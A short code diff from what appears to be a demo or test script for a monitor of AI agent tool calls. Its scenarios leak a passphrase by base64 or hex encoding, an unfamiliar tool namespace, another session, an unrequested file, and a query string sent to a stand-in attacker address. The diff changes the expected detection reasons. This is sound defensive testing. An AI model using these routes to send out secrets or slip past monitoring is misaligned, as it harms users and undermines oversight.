@@ -21,10 +21,10 @@ internal static partial class DemoScript
         Leak(Passphrases, Taken, Sent("behind another namespace", "mcp__notes__http_post", Reasons.ToolUnknown)),
         Leak(Passphrases, Taken, Sent("encoded in base64", Post, Reasons.IntentNeverAfter, Base64)),
         Leak(Passphrases, Taken, Sent("encoded in hex", Post, Reasons.IntentNeverAfter, Hex)),
-        Leak(Passphrases, Sent("in another session", Post, "untrusted-data-acts", static _ => Passphrase)),
+        Leak(Passphrases, Sent("in another session", Post, Reasons.FlowInstructed, static _ => Passphrase)),
         Leak(Passphrases, Taken,
             new Step("left in a file nobody asked for", "files__write_file", static answers => With(("path", "reports/draft.md"), ("text", answers[0])), Reasons.ApprovalRequired)),
-        Leak(Passphrases, Taken, new Step("in the address of a page", "notes__read_page", static answers => With(("url", $"{Attacker}?note={answers[0]}")), Reasons.ApprovalRequired)),
+        Leak(Passphrases, Taken, new Step("in the address of a page", "notes__read_page", static answers => With(("url", $"{Attacker}?note={answers[0]}")), Reasons.FlowInstructed)),
     ];
 
     // Never in a result, so that only what is sent can tell.
